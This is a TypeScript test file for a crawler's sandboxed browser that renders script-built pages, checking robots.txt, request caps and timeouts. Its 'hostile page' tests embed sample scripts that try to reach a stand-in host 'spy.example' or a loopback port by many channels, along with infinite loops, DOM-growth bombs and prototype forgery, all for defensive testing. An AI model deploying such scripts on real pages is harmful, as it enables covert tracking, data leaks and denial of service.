// Pages without text until their scripts ran: read by a browser that has no network but our conversation.
import { createServer } from 'node:net'
import { afterAll, describe, expect, test } from 'vitest'
import { DAY } from '#model/clock.ts'
import { MAX_PAGE_REQUESTS } from '../../crawler/limits.ts'
import { openPageReader, type PageReader, type Rendered } from '../../crawler/rendered-page.ts'
import type { VirtualRoute } from '../fediverse/contract.ts'
import { mirrors } from '../fediverse/software/index.ts'
import { defineWorld, type HostDefinition } from '../fediverse/world.ts'
import { browserForTest, closeSharedBrowser, sharedBrowser } from '../support/browser.ts'
import { GAP_MS, hostWith, talkTo, USER_AGENT, type Talk } from '../support/conversation.ts'
import { openWorld } from '../support/crawl-world.ts'
import { freshDatabase } from '../support/database.ts'
import { listen } from './network/loopback.ts'

const PAGE = '/static/terms-of-service.html'

afterAll(closeSharedBrowser)

function html(text: string): VirtualRoute {
  return { text: `<!doctype html><html lang="en">${text}</html>`, headers: { 'content-type': 'text/html; charset=utf-8' } }
}

function script(text: string): VirtualRoute {
  return { text, headers: { 'content-type': 'text/javascript' } }
}

/** A host with one page and what it needs; robots.txt is none unless given. */
function pageHost(routes: Readonly<Record<string, VirtualRoute>>, more: HostDefinition = {}): HostDefinition {
  return hostWith({}, { routes: Object.fromEntries(Object.entries(routes).map(([path, route]) => [`GET ${path}`, route])), ...more })
}

async function render(pages: PageReader, talk: Talk, path = '/page'): Promise<Rendered> {
  return talk.fediverse.clock.run(() => pages.read(new URL(path, 'https://cove.example'), talk.conversation.ask))
}

describe('in a crawl', () => {
  const instance = {
    host: 'cove.example',
    software: 'pleroma',
    version: '2.7.1',
    name: 'The Cove',
    shortDescription: 'Small boats',
    languages: ['en'],
    registrations: { mode: 'open' },
    usage: { users: 20, localPosts: 10 },
    rules: [],
    peers: [],
  } as const
  const world = defineWorld({
    mirrors,
    hosts: {
      'cove.example': {
        instance,
        routes: {
          [`GET ${PAGE}`]: html('<body><div id="app"></div><script src="/app.js"></script></body>'),
          'GET /app.js': script('document.getElementById("app").innerText = "No wake in the harbour."'),
        },
      },
    },
  })

  test('a page that its script writes is read in a slot of its own, once a month', async () => {
    const pages = sharedBrowser()
    await using database = await freshDatabase()
    await using crawl = await openWorld(world, database, { seeds: ['cove.example'], pages })
    await crawl.crawlToIdle()
    const texts = await database.db.selectFrom('longText').select(['kind', 'text']).where('kind', '=', 'terms').execute()
    expect(texts).toEqual([{ kind: 'terms', text: 'No wake in the harbour.' }])
    const { ledger } = crawl.fediverse
    expect(ledger.userAgents()).toEqual(new Set([USER_AGENT]))
    expect(ledger.overlaps('host', GAP_MS)).toEqual([])
    expect(ledger.forbiddenByRobots(world)).toEqual([])
    const asked = ledger.requests().map(({ path }) => path)
    expect(asked.slice(-3)).toEqual([PAGE, PAGE, '/app.js'])
    const visits = await database.db.selectFrom('crawl').select('requests').orderBy('finishedAt').execute()
    expect(visits.map(({ requests }) => requests)).toEqual([asked.length - 2, 2])
    await crawl.crawlFor(3 * DAY)
    expect(ledger.requests().filter(({ path }) => path === PAGE)).toHaveLength(2)
  })

  test('without a browser the same page stays without text, and is not asked for again', async () => {
    await using database = await freshDatabase()
    await using crawl = await openWorld(world, database, { seeds: ['cove.example'] })
    await crawl.crawlToIdle()
    const page = await database.db.selectFrom('document').select(['state', 'reason']).where('endpoint', '=', PAGE).execute()
    expect(page).toEqual([{ state: 'failed', reason: 'no-text' }])
    expect(crawl.fediverse.ledger.requests().filter(({ path }) => path === PAGE)).toHaveLength(1)
  })
})

describe('a page', () => {
  test('is read with what it loads from its own host, one request at a time', async () => {
    const pages = sharedBrowser()
    const talk = await talkTo({
      'cove.example': pageHost({
        '/page': html('<head><link rel="stylesheet" href="/s.css"><script src="/a.js" defer></script></head><body><p id="p"></p></body>'),
        '/s.css': { text: 'p { text-transform: uppercase }', headers: { 'content-type': 'text/css' } },
        '/a.js': script('fetch("/data.json").then((r) => r.json()).then((d) => { document.getElementById("p").textContent = d.rule })'),
        '/data.json': { json: { rule: 'be kind' } },
      }),
    })
    expect(await render(pages, talk)).toEqual({ ok: true, text: 'BE KIND' })
    expect(talk.asked().toSorted()).toEqual(['/a.js', '/data.json', '/page', '/robots.txt', '/s.css'].map((path) => `cove.example ${path}`))
    expect(talk.fediverse.ledger.userAgents()).toEqual(new Set([USER_AGENT]))
    expect(talk.fediverse.ledger.overlaps('host', GAP_MS)).toEqual([])
  })

  test('is read without what robots.txt keeps to itself', async () => {
    const pages = sharedBrowser()
    const talk = await talkTo({
      'cove.example': pageHost(
        {
          '/page': html('<body><p>Plain.</p><script src="/private/a.js"></script></body>'),
          '/private/a.js': script('document.body.textContent = "Secret."'),
        },
        { robots: 'User-agent: *\nDisallow: /private/' },
      ),
    })
    expect(await render(pages, talk)).toEqual({ ok: true, text: 'Plain.' })
    expect(talk.fediverse.ledger.forbiddenByRobots(talk.fediverse.world)).toEqual([])
  })

  test('that robots.txt forbids is not read', async () => {
    const pages = sharedBrowser()
    const talk = await talkTo({ 'cove.example': pageHost({ '/page': html('<p>x') }, { robots: 'User-agent: *\nDisallow: /' }) })
    expect(await render(pages, talk)).toEqual({ ok: false, failure: { reason: 'robots' } })
  })

  test.each([
    [404, 'not-found'],
    [403, 'unauthorized'],
    [500, 'server-error'],
  ] as const)('that is answered with %i has failed, whatever is written on it', async (status, reason) => {
    const pages = sharedBrowser()
    const talk = await talkTo({
      'cove.example': pageHost({ '/page': { status, text: '<p>Sorry', headers: { 'content-type': 'text/html' } } }),
    })
    expect(await render(pages, talk)).toMatchObject({ ok: false, failure: { reason } })
  })

  test('that has nothing to say even then has no text', async () => {
    const pages = sharedBrowser()
    const talk = await talkTo({ 'cove.example': pageHost({ '/page': html('<body><script>1</script></body>') }) })
    expect(await render(pages, talk)).toEqual({ ok: false, failure: { reason: 'no-text' } })
  })

  test('that the slot has no room for is put off to the next', async () => {
    const pages = sharedBrowser()
    const talk = await talkTo({ 'cove.example': pageHost({ '/page': html('<p>x') }, { robots: 'User-agent: *\nCrawl-delay: 60' }) })
    expect(await render(pages, talk)).toEqual({ ok: 'later', at: talk.fediverse.clock.now() + 60_000 })
  })

  test('that meets a browser at work is put off too, and keeps nobody waiting', async () => {
    const pages = sharedBrowser()
    const talk = await talkTo({ 'cove.example': pageHost({ '/page': html('<p>Plain.') }) })
    const [first, second] = await Promise.all([render(pages, talk), pages.read(new URL('https://far.example/'), talk.conversation.ask)])
    expect(first).toEqual({ ok: true, text: 'Plain.' })
    expect(second).toEqual({ ok: 'later' })
  })

  test('that does not start a browser says so', async () => {
    const pages = openPageReader({ executablePath: '/no/such/browser', userAgent: USER_AGENT })
    const talk = await talkTo({ 'cove.example': pageHost({ '/page': html('<p>x') }) })
    expect(await render(pages, talk)).toEqual({ ok: false, failure: { reason: 'no-browser' } })
    await pages.close()
    expect(talk.fediverse.ledger.count()).toBe(0)
  })
})

describe('a hostile page', () => {
  test('contacts nobody else, by whatever way a page has', async () => {
    let connections = 0
    const port = await listen(createServer(() => void (connections += 1)))
    const pages = sharedBrowser()
    const inside = `127.0.0.1:${port}`
    const ways = `
      const image = new Image(); image.src = 'https://spy.example/i.png'
      const inside = new Image(); inside.src = 'http://${inside}/i.png'
      fetch('https://spy.example/').catch(() => 0); fetch('http://${inside}/', { mode: 'no-cors' }).catch(() => 0)
      fetch('https://cove.example:8443/').catch(() => 0); fetch('/post', { method: 'POST', body: 'x' }).catch(() => 0)
      navigator.sendBeacon('https://spy.example/b', 'x'); navigator.sendBeacon('/beacon', 'x')
      try { new WebSocket('ws://${inside}/'); new WebSocket('wss://spy.example/') } catch {}
      try { new EventSource('https://spy.example/e') } catch {}
      window.open('https://spy.example/w'); window.open('http://${inside}/w')
      const worker = new Worker(URL.createObjectURL(new Blob(["fetch('http://${inside}/')\\nnew WebSocket('ws://${inside}/')"])))
      const frame = document.createElement('iframe'); frame.src = 'http://${inside}/f'; document.body.append(frame)
      try { const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${inside}' }, { urls: 'turn:${inside}?transport=tcp', username: 'a', credential: 'b' }] })
        peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer)) } catch {}
      document.getElementById('p').textContent = 'Done.'`
    const talk = await talkTo({
      'cove.example': pageHost({
        '/page': html(
          `<head><link rel="preconnect" href="http://${inside}"><link rel="dns-prefetch" href="//spy.example"><link rel="prefetch" href="https://spy.example/p">
          <meta http-equiv="refresh" content="3;url=https://spy.example/r"></head><body><p id="p"></p><img src="/pixel.png"><script>${ways}</script></body>`,
        ),
        '/pixel.png': { bytes: new Uint8Array([1]) },
      }),
      'spy.example': hostWith({}),
    })
    expect(await render(pages, talk)).toEqual({ ok: true, text: 'Done.' })
    expect(talk.fediverse.ledger.hosts()).toEqual(new Set(['cove.example']))
    expect(talk.asked()).toEqual(['cove.example /robots.txt', 'cove.example /page'])
    expect(talk.fediverse.ledger.countKind('look-up')).toBe(1)
    expect(connections).toBe(0)
  })

  test('is not led to another host by a redirect, neither itself nor its scripts', async () => {
    const pages = sharedBrowser()
    const away = { status: 302, headers: { location: 'https://spy.example/' }, text: '' }
    const talk = await talkTo({
      'cove.example': pageHost({ '/page': html('<p>Plain.</p><script src="/a.js"></script>'), '/a.js': away, '/gone': away }),
      'spy.example': hostWith({ '/': {} }),
    })
    expect(await render(pages, talk)).toEqual({ ok: true, text: 'Plain.' })
    expect(await render(pages, talk, '/gone')).toMatchObject({ ok: false, failure: { reason: 'redirect-refused' } })
    expect(talk.fediverse.ledger.count('spy.example')).toBe(0)
  })

  test('with a thousand scripts gets ten requests, and then counts as it stands', async () => {
    const pages = sharedBrowser()
    const scripts = Array.from({ length: 1000 }, (_, i) => `<script src="/${i}.js"></script>`).join('')
    const talk = await talkTo({ 'cove.example': pageHost({ '/page': html(`<body><p>Plain.</p>${scripts}</body>`) }) })
    expect(await render(pages, talk)).toEqual({ ok: true, text: 'Plain.' })
    expect(talk.fediverse.ledger.count()).toBeLessThanOrEqual(MAX_PAGE_REQUESTS)
  })

  test('that asks for more for ever ends at its deadline, with its text', async () => {
    const pages = browserForTest(4000)
    const talk = await talkTo({
      'cove.example': pageHost({
        '/page': html('<body><p>Plain.</p><script>setInterval(() => fetch("/x" + Math.random()), 50)</script></body>'),
      }),
    })
    expect(await render(pages, talk)).toEqual({ ok: true, text: 'Plain.' })
    expect(talk.fediverse.ledger.count()).toBeLessThanOrEqual(MAX_PAGE_REQUESTS)
  })

  test('whose script never ends is given up, and the next page is read', async () => {
    const pages = browserForTest(3000)
    const talk = await talkTo({
      'cove.example': pageHost({ '/page': html('<body><p>Plain.</p><script>for (;;) {}</script></body>'), '/next': html('<p>Next.') }),
    })
    expect(await render(pages, talk)).toMatchObject({ ok: false, failure: { reason: 'no-text' } })
    expect(await render(pages, talk, '/next')).toEqual({ ok: true, text: 'Next.' })
  })

  test('that grows without end is given up or cut, and the next page is read', async () => {
    const pages = browserForTest(20_000)
    const bomb =
      'const p = document.getElementById("p"); let t = "boats and "; for (let i = 0; i < 22; i += 1) { t += t; p.textContent = t }'
    const talk = await talkTo({
      'cove.example': pageHost({
        '/page': html(`<body><p id="p"></p><script>${bomb}</script></body>`),
        '/deep': html(`<body>${'<div>'.repeat(50_000)}deep</body>`),
        '/next': html('<p>Next.'),
      }),
    })
    const grown = await render(pages, talk)
    expect(grown.ok === true ? grown.text.length : 0).toBeLessThanOrEqual(100_000)
    const deep = await render(pages, talk, '/deep')
    expect(deep.ok === true ? deep.text : 'deep').toBe('deep')
    expect(await render(pages, talk, '/next')).toEqual({ ok: true, text: 'Next.' })
  })

  test('cannot change what its text is by changing what JavaScript means', async () => {
    const pages = sharedBrowser()
    const forged =
      'String.prototype.slice = () => "forged"; Object.defineProperty(HTMLElement.prototype, "innerText", { get: () => "forged" })'
    const talk = await talkTo({ 'cove.example': pageHost({ '/page': html(`<body><p>Plain.</p><script>${forged}</script></body>`) }) })
    expect(await render(pages, talk)).toEqual({ ok: true, text: 'Plain.' })
  })

  test('loses control and direction characters on the way', async () => {
    const pages = sharedBrowser()
    const talk = await talkTo({ 'cove.example': pageHost({ '/page': html('<body><p>a&#x202e;b&#x7;c</p></body>') }) })
    expect(await render(pages, talk)).toEqual({ ok: true, text: 'abc' })
  })
})
